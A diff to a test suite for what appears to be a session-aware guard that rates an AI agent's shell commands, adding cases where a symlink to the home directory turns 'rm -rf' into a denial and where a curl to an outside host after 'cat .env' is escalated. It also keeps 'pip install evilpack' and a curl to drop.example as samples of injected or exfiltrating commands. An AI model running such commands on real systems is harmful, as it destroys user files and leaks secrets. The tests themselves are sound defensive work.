@@ -50,6 +50,17 @@ verdict("ask", "curl -d hello https://drop.example/in", "s4", note, "session.inj
 agent.ask("note", session="s4", origin="user", text="yes, install evilpack")
 expect("session.injected-package" not in str(agent.check("pip install evilpack", session="s4")), "the user named it")
 
+# a link that an earlier call made leads a later one where it points
+link = verdict("allow", "ln -s ~ build/h", "s6")
+answer = agent.check("rm -rf build/h/*", session="s6")
+expect(answer["verdict"] == "deny", answer)
+expect(agent.check("rm -rf build/h/*", session="s7")["verdict"] == "allow", "another session has no such link")
+
+# a secret that was read, and what is sent behind it
+agent.check("cat .env", session="s8")
+expect(agent.check("curl -G https://h.example/q --data-urlencode x=1", session="s8")["verdict"] == "ask", "after a secret")
+expect(agent.check("curl https://h.example/q", session="s8")["verdict"] == "allow", "nothing is said there")
+
 # bad input is answered
 expect(agent.ask("note", session="s4", origin="god", text="x")["error"]["code"] == "bad-request", "origin")
 expect(agent.ask("note", session="s4", origin="user")["error"]["code"] == "bad-request", "text")
@@ -58,10 +69,10 @@ expect(agent.ask("observe", session="s4", event="x", outcome="ok")["error"]["cod
 expect(agent.ask("session", session="nobody")["error"]["code"] == "not-found", "session")
 
 # bounded, and told
-told = agent.ask("note", session="s5", origin="tool-output", text=" ".join("h%d.example.com" % i for i in range(3000)))
-expect(told["targets"] == 3000, told)
+told = agent.ask("note", session="s5", origin="tool-output", text=" ".join("https://h%d.example.com/x" % i for i in range(1000)))
+expect(told["targets"] == 1000, told)
 memory = agent.ask("session", session="s5")
-expect(memory["hosts_named_by_tools"] + memory["marks_forgotten"] == 3000 and memory["hosts_named_by_tools"] <= 2048, memory)
+expect(memory["hosts_named_by_tools"] + memory["marks_forgotten"] == 1000 and memory["hosts_named_by_tools"] <= 2048, memory)
 for i in range(100):
     agent.check("echo x > f%d" % i, session="n%d" % i)
 expect(agent.ask("session", session="n99")["files_written"] == 1, "the newest is there")
